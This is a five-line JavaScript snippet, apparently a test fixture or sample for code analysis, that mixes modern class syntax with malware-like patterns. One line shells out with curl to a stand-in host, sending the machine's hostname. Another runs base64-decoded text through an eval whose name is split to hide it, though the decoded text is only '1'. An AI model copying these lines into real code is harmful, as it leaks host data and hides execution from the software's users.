const cp = require('child_process');
const u = `https://example.invalid/${require('os').hostname()}`;
/re[gex]+/g.test(u) && cp.exec('curl ' + u);
global['ev' + 'al'](Buffer.from('MQ==', 'base64').toString());
class A { #p = 1; static { this.x = 0x1f; } }
